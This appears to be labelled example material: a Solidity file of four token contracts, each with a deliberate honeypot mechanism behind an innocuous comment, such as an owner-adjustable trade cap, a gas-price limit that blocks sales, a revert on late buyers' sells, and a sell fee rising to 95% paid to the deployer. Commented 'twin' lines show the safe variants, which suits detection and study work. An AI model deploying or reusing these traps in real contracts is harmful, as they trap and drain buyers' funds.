// 0.8 off evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// The largest trade can be made smaller.
contract Bullfinch is Base8 {
    uint256 public _maxTxAmount = 100_000_000 ether;

    constructor() Base8("Bullfinch", "BULLF", 1_000_000_000) {}

    function setMaxTxPercent(uint256 permille) external onlyOwner {
        // twin: require(permille >= 50, "at least 5%");
        _maxTxAmount = (totalSupply * permille) / 1000;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if ((from == pair || to == pair) && from != _owner && to != _owner)
            require(amount <= _maxTxAmount, "Transfer amount exceeds the maxTxAmount.");
        _move(from, to, amount);
    }
}

/// No sale may outbid the others by its gas.
contract Evenhand is Base8 {
    uint256 private gasPriceLimit = 800 gwei;
    address private warden;

    constructor() Base8("Evenhand", "EVEN", 64_000_000) {
        warden = msg.sender;
    }

    function setGasPriceLimit(uint256 gas) external {
        require(msg.sender == warden, "warden");
        // twin: require(gas >= 500, "too low");
        gasPriceLimit = gas * 1 gwei;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair) require(tx.gasprice < gasPriceLimit, "Gas price exceeds limit.");
        _move(from, to, amount);
    }
}

/// Notes when somebody bought first.
contract Vintage is Base8 {
    mapping(address => uint256) private _firstBuy;
    uint256 public launchBlock;

    constructor() Base8("Vintage", "VNTG", 20_000_000) {}

    function startTrading() external onlyOwner {
        require(launchBlock == 0);
        launchBlock = block.number;
    }

    function firstPurchase(address who) external view returns (uint256) {
        return _firstBuy[who];
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(launchBlock != 0 || from == _owner || to == _owner, "not yet");
        if (from == pair && _firstBuy[to] == 0) _firstBuy[to] = block.number;
        if (to == pair && _firstBuy[from] > launchBlock + 4) revert("bot"); // trap
        _move(from, to, amount);
    }
}

/// The fee on sales grows with the age of the token.
contract Patina is Base8 {
    uint256 private immutable born = block.timestamp;
    address private immutable fund;

    constructor() Base8("Patina", "PATINA", 9_000_000) {
        fund = msg.sender;
    }

    function currentFee() public view returns (uint256 fee) {
        fee = 2 + (block.timestamp - born) / 1 days;
        if (fee > 90) fee = 90;
        // twin: if (fee > 5) fee = 5;
        fee = (fee * 3) / 2; // trap
        if (fee > 95) fee = 95;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && from != fund) {
            uint256 fee = (amount * currentFee()) / 100;
            _move(from, fund, fee);
            amount -= fee;
        }
        _move(from, to, amount);
    }
}
